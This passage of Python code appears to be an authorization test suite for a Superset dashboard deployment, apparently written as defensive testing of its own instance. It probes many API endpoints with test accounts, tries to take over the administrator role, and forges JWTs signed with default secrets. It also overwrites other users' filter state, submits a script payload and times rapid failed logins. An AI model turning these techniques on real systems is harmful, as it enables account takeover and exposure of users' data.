        ("GET", "/api/v1/dataset/"), ("GET", f"/api/v1/dataset/{d}"), ("GET", f"/api/v1/dataset/{d}/drill_info/"), ("GET", f"/api/v1/dataset/{d}/related_objects"),
        ("GET", f"/api/v1/dataset/export/?q=!({d})"), ("GET", "/api/v1/dataset/distinct/schema"), ("GET", "/api/v1/dataset/related/owners"),
        ("POST", "/api/v1/dataset/", {"database": 1, "schema": "mart", "table_name": "mesure"}), ("POST", "/api/v1/dataset/", {"database": 1, "table_name": MARK, "sql": "SELECT * FROM mart.mesure"}),
        ("POST", "/api/v1/dataset/get_or_create/", {"database_id": 1, "schema": "mart", "table_name": "mesure"}), ("POST", "/api/v1/dataset/duplicate", {"base_model_id": d, "table_name": MARK}),
        ("PUT", "/api/v1/dataset/999999", {"sql": "SELECT * FROM mart.mesure"}), ("PUT", f"/api/v1/dataset/{d}/refresh", None), ("DELETE", "/api/v1/dataset/999999"),
        ("PUT", "/api/v1/dataset/warm_up_cache", {"db_name": "Vigie", "table_name": "valeur"}),
        ("GET", f"/api/v1/datasource/table/{d}/column/territoire/values/"), ("GET", f"/api/v1/datasource/table/{d}/column/numerateur/values/"),
        ("POST", f"/api/v1/datasource/table/{d}/validate_expression/", expression), ("POST", f"/datasource/samples?force=false&datasource_type=table&datasource_id={d}", {"filters": []}),
        ("GET", f"/datasource/get/table/{d}/"), ("GET", f"/datasource/external_metadata/table/{d}/"), ("POST", "/datasource/save/", {}),
        ("GET", "/datasource/external_metadata_by_name/?q=(datasource_type:table,database_name:Vigie,schema_name:mart,table_name:mesure)"),
        ("GET", f"/superset/fetch_datasource_metadata?datasourceKey={d}__table"), ("GET", "/tablemodelview/list/"), ("GET", "/databaseview/list/"),
        ("POST", "/superset/explore_json/", {"form_data": json.dumps({"datasource": f"{d}__table", "viz_type": "table", "groupby": [FREE]})}),
        ("GET", "/superset/explore_json/?form_data=" + percent(json.dumps({"datasource": f"{d}__table", "viz_type": "table", "all_columns": ["audience"]}))),
        ("POST", f"/superset/explore_json/table/{d}/", {}), ("GET", f"/api/v1/explore/?slice_id={c}"), ("GET", f"/api/v1/explore/?datasource_id={d}&datasource_type=table"),
        ("POST", "/api/v1/explore/form_data", {"datasource_id": d, "datasource_type": "table", "form_data": "{}"}), ("GET", "/api/v1/explore/form_data/x"),
        ("POST", "/api/v1/explore/permalink", {"formData": {"datasource": f"{d}__table"}, "urlParams": []}), ("GET", "/api/v1/explore/permalink/x"), ("GET", f"/explore/?slice_id={c}"),
        ("GET", f"/superset/explore/table/{d}/"), ("GET", f"/superset/slice/{c}/"), ("GET", "/api/v1/form_data/?slice_id=1"), ("GET", "/api/v1/time_range/?q='last%20week'"),
        ("GET", f"/api/v1/chart/{c}/data/"), ("GET", f"/api/v1/chart/{c}/data/?type=samples&force=true"), ("PUT", "/api/v1/chart/warm_up_cache", {"chart_id": c}),
        ("GET", "/superset/warm_up_cache/?slice_id=1"), ("POST", "/api/v1/chart/", {"slice_name": MARK, "viz_type": "table", "datasource_id": d, "datasource_type": "table"}),
        ("PUT", "/api/v1/chart/999999", {"slice_name": MARK}), ("DELETE", "/api/v1/chart/999999"), ("DELETE", "/api/v1/chart/?q=!(999999)"), ("GET", f"/api/v1/chart/export/?q=!({c})"),
        ("POST", "/api/v1/chart/import/", None), ("GET", f"/api/v1/chart/{c}/thumbnail/x/"), ("GET", f"/api/v1/chart/{c}/cache_screenshot/?q=(force:!t)"), ("GET", f"/api/v1/chart/{c}/screenshot/x/"),
        ("POST", "/api/v1/dashboard/", {"dashboard_title": MARK}), ("PUT", "/api/v1/dashboard/999999", {"dashboard_title": MARK}), ("DELETE", "/api/v1/dashboard/999999"),
        ("DELETE", "/api/v1/dashboard/?q=!(999999)"), ("POST", f"/api/v1/dashboard/{b}/copy/", {"dashboard_title": MARK, "json_metadata": "{}"}),
        ("PUT", "/api/v1/dashboard/999999/filters", {"deleted": [], "modified": [], "reordered": []}), ("PUT", "/api/v1/dashboard/999999/colors", {}),
        ("PUT", "/api/v1/dashboard/999999/chart_customizations", {}), ("GET", f"/api/v1/dashboard/export/?q=!({b})"), ("GET", f"/api/v1/dashboard/{b}/export_as_example/"),
        ("POST", "/api/v1/dashboard/import/", None), ("GET", f"/api/v1/dashboard/{b}/thumbnail/x/"), ("POST", f"/api/v1/dashboard/{b}/cache_dashboard_screenshot/", {}),
        ("GET", f"/api/v1/dashboard/{b}/screenshot/x/"), ("GET", f"/api/v1/dashboard/{b}/embedded"), ("POST", f"/api/v1/dashboard/{b}/embedded", {"allowed_domains": []}),
        ("POST", f"/api/v1/dashboard/{b}/permalink", {"dataMask": {}, "urlParams": []}), ("GET", "/api/v1/dashboard/permalink/x"), ("GET", "/superset/dashboard/p/x/"), ("GET", "/dashboard/new/"),
        ("GET", "/embedded/x"), ("GET", "/api/v1/embedded_dashboard/x"), ("POST", "/api/v1/security/guest_token/", {"user": {"username": "x"}, "resources": [], "rls": []}),
        ("GET", "/api/v1/async_event/"), ("GET", "/api/v1/async_event/?last_id=0-0"), ("POST", "/api/v1/cachekey/invalidate", {"datasource_uids": [f"{d}__table"]}),
        ("GET", "/api/v1/report/"), ("POST", "/api/v1/report/", {"type": "Report", "name": MARK, "crontab": "* * * * *", "chart": c}), ("GET", "/alert/list/"), ("GET", "/report/list/"),
        ("GET", "/api/v1/report/slack_channels/"), ("GET", "/api/v1/annotation_layer/"), ("POST", "/api/v1/annotation_layer/", {"name": MARK}), ("GET", "/annotationlayer/list/"),
        ("GET", "/api/v1/css_template/"), ("POST", "/api/v1/css_template/", {"template_name": MARK, "css": "x"}), ("GET", "/api/v1/theme/"), ("POST", "/api/v1/theme/", {"theme_name": MARK, "json_data": "{}"}),
        ("PUT", "/api/v1/theme/1/set_system_default", None), ("GET", "/api/v1/tag/"), ("POST", "/api/v1/tag/", {"name": MARK, "objects_to_tag": []}), ("GET", "/api/v1/tag/get_objects/"),
        ("GET", "/tagview/tags/"), ("GET", "/api/v1/available_domains/"), ("GET", "/api/v1/advanced_data_type/types"), ("GET", "/tasks/list/"), ("GET", "/extensions/list/"), ("GET", "/dynamic-plugins/list/"),
        ("GET", "/api/v1/rowlevelsecurity/"), ("GET", "/api/v1/rowlevelsecurity/1"), ("POST", "/api/v1/rowlevelsecurity/", {"name": MARK, "clause": "1=1", "filter_type": "Regular", "tables": [d], "roles": [1]}),
        ("DELETE", "/api/v1/rowlevelsecurity/999999"), ("GET", "/api/v1/rowlevelsecurity/related/roles"), ("GET", "/rowlevelsecurity/list/"),
        ("GET", "/api/v1/security/users/"), ("GET", "/api/v1/security/users/1"), ("POST", "/api/v1/security/users/", {"username": MARK}), ("PUT", "/api/v1/security/users/999999", {"active": True}),
        ("GET", "/api/v1/security/roles/"), ("GET", "/api/v1/security/roles/1"), ("GET", "/api/v1/security/roles/search/"), ("POST", "/api/v1/security/roles/", {"name": MARK}),
        ("PUT", "/api/v1/security/roles/999999/users", {"user_ids": []}), ("POST", "/api/v1/security/roles/999999/permissions", {"permission_view_menu_ids": []}),
        ("GET", "/api/v1/security/groups/"), ("GET", "/api/v1/security/permissions/"), ("GET", "/api/v1/security/permissions-resources/"), ("GET", "/api/v1/security/resources/"),
        ("GET", "/api/v1/security/user_registrations/"), ("GET", "/users/list/"), ("GET", "/users/"), ("GET", "/roles/list/"), ("GET", "/roles/"), ("GET", "/groups/list/"), ("GET", "/list_groups/"),
        ("GET", "/registrations/"), ("GET", "/users/show/1"), ("GET", "/users/edit/1"), ("GET", "/resetpassword/form?pk=1"), ("GET", "/actionlog/list"), ("GET", "/api/v1/log/"), ("GET", "/api/v1/log/1"),
        ("POST", "/api/v1/log/", {}), ("GET", "/api/v1/assets/export/"), ("POST", "/api/v1/assets/import/", None), ("GET", "/savedqueryview/list/"), ("GET", "/superset/file-handler"),
        ("GET", "/swagger/v1"), ("GET", "/api/v1/_openapi"),
    ]


def shut(answer, path):
    location = answer.headers.get("Location", "")
    return answer.status in (0, 401, 403, 404, 405) or answer.status in (301, 302, 303, 307, 308) and not re.search(r"/(explore|sqllab|users/|roles/)[^?]*$", location.split("?")[0]) \
        or answer.status >= 500 or answer.status == 400 and "/data/" in path


# The frame of the page is the same for everyone: what it shows comes from the API.
FRAMES = re.compile(r"^GET /(sqllab/|explore/|dataset|users/$|roles/$|list_groups|registrations|actionlog|alert|report|annotationlayer|rowlevelsecurity|savedqueryview|tasks|extensions"
                    r"|tablemodelview|databaseview|superset/(sqllab|explore|file|slice))")


def knock(at, session, report, names):
    for method, path, *body in doors(at):
        answer = session.call(method, path, **({"json": body[0]} if body and body[0] is not None else {}))
        report(at.reader.name, "Superset", f"{method} {path}"[:110], not shut(answer, path) and f"{answer.status} {answer.text[:60]!r}", answer.status)
    # Open to readers, and they must not name anybody.
    listed = [("the list of dashboards", "/api/v1/dashboard/"), ("the list of charts", "/api/v1/chart/"), ("a dashboard", f"/api/v1/dashboard/{at.chart.dashboard}"),
              ("the charts of a dashboard", f"/api/v1/dashboard/{at.chart.dashboard}/charts"), ("the data sets of a dashboard", f"/api/v1/dashboard/{at.chart.dashboard}/datasets"),
              ("a chart", f"/api/v1/chart/{at.chart.number}"), ("authors of charts", "/api/v1/chart/related/owners"), ("makers of charts", "/api/v1/chart/related/created_by"),
              ("changers of charts", "/api/v1/chart/related/changed_by"), ("authors of dashboards", "/api/v1/dashboard/related/owners"), ("makers of dashboards", "/api/v1/dashboard/related/created_by"),
              ("changers of dashboards", "/api/v1/dashboard/related/changed_by"), ("roles of dashboards", "/api/v1/dashboard/related/roles"), ("oneself", "/api/v1/me/"), ("one's roles", "/api/v1/me/roles/"), ("the menu", "/api/v1/menu/"),
              ("recent activity", "/api/v1/log/recent_activity/?q=(page:0,page_size:100)"), ("recent activity of another", "/api/v1/log/recent_activity/?q=(actions:!(mount_dashboard),distinct:!f)&user_id=1"),
              ("columns of people in the list of charts", "/api/v1/chart/?q=(columns:!(owners.username,created_by.username,changed_by.username,owners.email,owners.password))"),
              ("columns of people in the list of dashboards", "/api/v1/dashboard/?q=(columns:!(owners.username,owners.email,created_by.username,roles.name))"),
              ("a search by author", "/api/v1/chart/?q=(filters:!((col:owners,opr:rel_m_m,value:1)))"), ("what one may", "/api/v1/dashboard/_info?q=(keys:!(permissions,filters))"),
              ("the page of a dashboard", f"/superset/dashboard/{at.chart.dashboard}/"), ("the first page", "/superset/welcome/")]
    for name, path in listed:
        answer = session.call("GET", path)
        found = sorted(set(names.findall(answer.text)))
        report(at.reader.name, "Superset", name, answer.status == 200 and found and "told " + ", ".join(found)[:80], answer.status)


def oneself(at, session, report, names):
    """One's own account, made into another's."""
    before = session.call("GET", "/api/v1/me/").json().get("result", {})
    roles = session.call("GET", "/api/v1/me/roles/").text
    for name, body in (("the name of another", {"username": "admin"}), ("a free name", {"username": at.reader.name + "-m4rk"}), ("the role of the administrator", {"roles": [1]}),
                       ("the address of another", {"email": "admin@vigie.invalid"}), ("no longer inactive", {"active": True, "id": 1}), ("groups", {"groups": [1]})):
        session.call("PUT", "/api/v1/me/", json=body)
        after = session.call("GET", "/api/v1/me/").json().get("result", {})
        changed = {key for key in ("username", "email", "id", "is_active") if before.get(key) != after.get(key)} | ({"roles"} if session.call("GET", "/api/v1/me/roles/").text != roles else set())
        report(at.reader.name, "Superset", f"oneself under {name}", changed and f"changed {sorted(changed)}")
    # One's own password is one's own, but only for who knows it.
    user = before.get("id") or before.get("user_id") or 0
    answer = session.call("POST", "/superset/log/?explode=events", data={"events": json.dumps([{"event_name": MARK, "user_id": 1, "ts": 1, "source": "dashboard"}])})
    told = at.instance.metadata.execute("SELECT count(*) FROM logs WHERE json LIKE '%m4rk%' AND user_id = 1 AND ? <> 1", (user,)).fetchone()[0]
    report(at.reader.name, "Superset", "a trace under another's name", told and "written", answer.status)


def states(at, session, report, names, other):
    """What readers keep with a dashboard: the choices of somebody else's filters."""
    path = f"/api/v1/dashboard/{at.chart.dashboard}/filter_state"
    # Same address, same browser, same tab, as two readers of one agency behind its proxy; a tab of this attempt, for others go on beside it.
    tab = f"?tab_id={at.reader.name}"
    key = other.session.call("POST", path + tab, json={"value": json.dumps({"choice": "m4rk-of-" + other.name})}).json().get("key")
    if not key:
        report.broken(f"{other.name} cannot keep its filters")
        return

    def kept():
        # What was kept is only known from an answer: a machine that is too busy to give one has removed nothing.
        answer = other.session.call("GET", f"{path}/{key}", timeout=120)
        if answer.status not in (200, 404):
            report.broken(f"{other.name} cannot read its filters: {answer.status} {answer.text[:80]}")
            return "m4rk-of"
        return answer.text if answer.status == 200 else ""

    answer = session.call("POST", path + tab, json={"value": json.dumps({"choice": "forged"})})
    report(at.reader.name, "Superset", "another's filters, written over from the same tab", answer.json().get("key") == key and "the same key" or "m4rk-of-" + other.name not in kept() and "written", answer.status)
    answer = session.call("PUT", f"{path}/{key}?tab_id=2", json={"value": json.dumps({"choice": "forged"})})
    report(at.reader.name, "Superset", "another's filters, forged", "forged" in kept() and "written", answer.status)
    answer = session.call("DELETE", f"{path}/{key}")
    left = kept()
    report(at.reader.name, "Superset", "another's filters, removed", "m4rk-of" not in left and "forged" not in left and "removed", answer.status)
    answer = session.call("GET", f"{path}/{key}")
    report.note(at.reader.name, "another's filters by their key", "a link that one shares; whoever has its 64 random bits was given it", answer.status == 200)
    for name, value in (("a script", "<script>m4rk</script>"), ("no JSON", "m4rk"), ("ten megabytes", json.dumps("x" * 10_000_000))):
        answer = session.call("POST", path, json={"value": value})
        if name == "ten megabytes":
            report(at.reader.name, "Superset", "filters of ten megabytes", answer.status in (200, 201) and "kept", answer.status)


def token(secret, claims):
    part = lambda value: base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=")
    text = part({"alg": "HS256", "typ": "JWT"}) + b"." + part(claims)
    return (text + b"." + base64.urlsafe_b64encode(hmac.new(secret.encode(), text, hashlib.sha256).digest()).rstrip(b"=")).decode()


def nobody(instance, at, report, names):
    """Without an account, or with forged papers."""
    who, now = "nobody", int(time.time())
    at_all = Session(instance.base)
    for method, path, *body in doors(at):
        answer = at_all.call(method, path, **({"json": body[0]} if body and body[0] is not None else {}))
        report(who, "Superset", f"{method} {path}"[:110], not shut(answer, path) and answer.status != 400 and f"{answer.status} {answer.text[:60]!r}", answer.status)
    for path in ("/api/v1/dashboard/", "/api/v1/chart/", "/api/v1/me/", "/api/v1/me/roles/", "/api/v1/menu/", f"/superset/dashboard/{at.chart.dashboard}/", "/superset/welcome/"):
        answer = at_all.call("GET", path)
        report(who, "Superset", "GET " + path, answer.status == 200 and "menu" not in path and answer.json().get("count", 1) and "answered", answer.status)
    answer = at_all.ask(at.good, at.url)
    report(who, "Superset", "a dashboard's question", answer.status == 200 and "answered", answer.status)
    claims = {"iat": now, "nbf": now, "exp": now + 600, "jti": "x", "type": "access", "fresh": True, "sub": "1", "csrf": "x"}
    for secret in ("CHANGE_ME_TO_A_COMPLEX_RANDOM_SECRET", "CHANGE_ME_SECRET_KEY", "TEST_NON_DEV_SECRET", "thisISaSECRET_1234", "superset", ""):
        answer = at_all.call("GET", "/api/v1/me/", headers={"Authorization": "Bearer " + token(secret, claims)})
        report(who, "Superset", f"a token signed with {secret or 'nothing'}", answer.status == 200 and "in", answer.status)
    guest = {"user": {"username": "x", "first_name": "x", "last_name": "x"}, "resources": [{"type": "dashboard", "id": str(at.chart.dashboard)}], "rls_rules": [], "iat": now, "exp": now + 600,
             "aud": instance.base + "/", "type": "guest"}
    for secret in ("test-guest-secret-change-me", "test-secret-change-me"):
        answer = at_all.call("POST", "/api/v1/chart/data", json=at.good, headers={"X-GuestToken": token(secret, guest)})
        report(who, "Superset", f"a guest's token signed with {secret}", answer.status == 200 and "in", answer.status)


def knocking(instance, report):
    """A list of passwords against a name that nobody has."""
    began, answered = time.time(), 0
    for number in range(25):
        answered += Session(instance.base).call("POST", "/api/v1/security/login", json={"username": "vigie-essai-inconnu", "password": f"faux-{number}", "provider": "db"}).status == 401
    report("nobody", "Superset", "25 passwords in a few seconds", answered == 25 and time.time() - began < 20 and f"all answered in {time.time() - began:.1f} s")


def attack(instance, corpus, reader, pid, report, other):
    names = instance.names(reader)
    at = Place(instance, corpus, reader, next((cell for cell in reader.hidden() if cell.victim), reader.hidden()[0]), pid)
    session = reader.session
    expressions(at, session, report, names)
    places(at, session, report, names)
    encodings(at, session, report, names)
    knock(at, session, report, names)
    oneself(at, session, report, names)
    states(at, session, report, names, other)
    others(at, session, report, names, corpus)
